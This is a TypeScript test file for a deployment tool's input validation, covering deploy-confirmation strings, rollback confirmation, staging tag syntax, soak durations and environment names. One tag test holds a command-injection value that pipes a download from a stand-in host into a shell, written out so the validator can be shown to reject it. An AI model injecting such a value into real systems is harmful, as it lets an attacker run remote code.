import { type Inputs, inputs } from '../test/world.ts'
import { askedOf } from './asked.ts'

test.each([
  '',
  'Deploy',
  'DEPLOY',
  ' deploy',
  'deploy ',
  'deploy\n',
  '"deploy"',
  'deploy v1.3.0',
  'deploy v2.0.0',
  'yes',
  'ｄeploy',
  'depl\u00f6y',
])('T52 confirm %j is not deploy', (confirm) => {
  expect(() => askedOf(inputs({ confirm }))).toThrow(expect.objectContaining({ code: 'confirm' }))
})

test.each([
  'deploy',
  'deploy v2',
  'deploy v2.0',
  'deploy v2.1.0',
  'deploy v2.0.1',
  'deploy 2.0.0',
  'deploy  v2.0.0',
  'deploy v02.0.0',
  'Deploy v2.0.0',
])('T52 confirm %j does not confirm a major', (confirm) => {
  expect(() => askedOf(inputs({ confirm, bump: 'major' }))).toThrow(expect.objectContaining({ code: 'confirm' }))
})

test('T52 a rollback is confirmed, too; a Release follows what was', () => {
  const rollback = inputs({ mode: 'rollback', to: 'v1.2.0', confirm: 'yes' })
  expect(() => askedOf(rollback)).toThrow(expect.objectContaining({ code: 'confirm' }))
  expect(askedOf(inputs({ mode: 'release', confirm: '' }))).toMatchObject({ tag: { name: 'v1.2.4' } })
})

test.each<[string, Inputs]>([
  ['nothing', { stagingTag: '' }],
  ['a branch', { stagingTag: 'main' }],
  ['a commit', { stagingTag: 'a'.repeat(40) }],
  ['a full ref', { stagingTag: 'refs/tags/v1.2.4' }],
  ['dots that are any letter', { stagingTag: 'v1x2x4' }],
  ['a pre-release', { stagingTag: 'v1.2.4-rc.1' }],
  ['a leading zero', { stagingTag: 'v1.02.4' }],
  ['a space behind it', { stagingTag: 'v1.2.4 ' }],
  ['a command', { stagingTag: 'v1.2.4"; curl evil.invalid | sh; "' }],
  ['another prefix', { stagingTag: 'v1.2.4', prefix: 'infra-v' }],
  ['a rollback to nothing', { mode: 'rollback', to: '' }],
])('%s is no tag, and that is said before anything is sent', (_, given) => {
  expect(() => askedOf(inputs(given))).toThrow(expect.objectContaining({ code: 'tag-syntax' }))
})

test.each([
  ['0', 0],
  ['90s', 90],
  ['30m', 1_800],
  ['24h', 86_400],
])('min-soak %s is %i seconds', (minSoak, seconds) => {
  expect(askedOf(inputs({ minSoak })).minSoakSeconds).toBe(seconds)
})

test('prod and production are one environment', () => {
  expect(askedOf(inputs({ productionEnvironment: 'prod' })).production).toBe('production')
})
